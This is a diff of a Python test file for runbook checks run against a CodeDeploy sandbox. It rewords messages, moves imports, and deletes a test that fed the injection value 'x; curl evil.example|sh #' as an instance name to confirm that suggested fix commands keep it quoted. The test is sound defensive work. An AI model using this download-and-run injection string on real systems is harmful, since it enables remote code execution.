@@ -1,7 +1,6 @@
 """Registration and callers: who gets in whose way, what was not looked at, and records that are odd."""
 
 import json
-import shlex
 from collections.abc import Iterator
 from contextlib import contextmanager
 from datetime import timedelta
@@ -11,12 +10,13 @@ import pytest
 from codedeploy_sandbox import Error, Fault
 from codedeploy_sandbox.errors import ApiError
 from codedeploy_sandbox.scenarios.fleet import healthy
-from codedeploy_sandbox.scenarios.helpers import BOTO, forget, sent, session, user
-from codedeploy_sandbox.state import REGION, Account
+from codedeploy_sandbox.scenarios.helpers import BOTO, forget, sent, session
+from codedeploy_sandbox.state import Account
 
 from runbooks.aws.session import Aws
 from runbooks.checks import all_checks
-from runbooks.engine import FAIL, OK, UNKNOWN, WARN, Finding, run
+from runbooks.engine import run
+from runbooks.findings import FAIL, OK, UNKNOWN, WARN, Finding
 from runbooks.question import Question
 from tests.support.world import QUICK, world
 
@@ -151,24 +151,7 @@ def test_a_record_that_cannot_be_read_is_told_of(monkeypatch: pytest.MonkeyPatch
             assert any(f.verdict is UNKNOWN and "could not be read" in f.says for f in found), check
 
 
-def test_a_hostile_name_stays_one_word_of_the_command() -> None:
-    hostile = "x; curl evil.example|sh #"
-
-    def scenario(account: Account) -> None:
-        healthy(account)
-        caller = account.knows("arn:aws:sts::111122223333:assumed-role/One/a", "ASIASANDBOXONE000000")
-        for name in (hostile, "--help"):
-            account.state(REGION).register(name, account.clock.start, user=user(name[:3]))
-            parameters = {"instanceName": name}
-            sent(account, caller, 9, REGISTER, parameters, BOTO, "192.0.2.1", TAKEN)
-
-    with world(scenario) as (aws, _):
-        fixes = [shlex.split(f.fix) for f in ask("registration-calls-succeed", aws, Question())]
-    assert ["--instance-name", hostile] in [words[3:5] for words in fixes]
-    assert "--instance-name=--help" in [words[3] for words in fixes]
-
-
-# What was not looked at
+# What was not checked
 
 NEIGHBOURS = "instance-is-not-registered-elsewhere"
 UNHEARD = Error("UnrecognizedClientException", "The security token included in the request is invalid", 403)
@@ -188,7 +171,7 @@ def test_a_region_that_does_not_answer_is_not_called_empty() -> None:
         sandbox.app.set_faults([Fault("codedeploy:GetOnPremisesInstance", UNHEARD)])
         (found,) = ask(NEIGHBOURS, aws)
     assert found.verdict is UNKNOWN
-    assert "Could not look in eu-central-1" in found.says
+    assert "Could not check eu-central-1" in found.says
     assert "codedeploy:GetOnPremisesInstance" in found.says
 
 
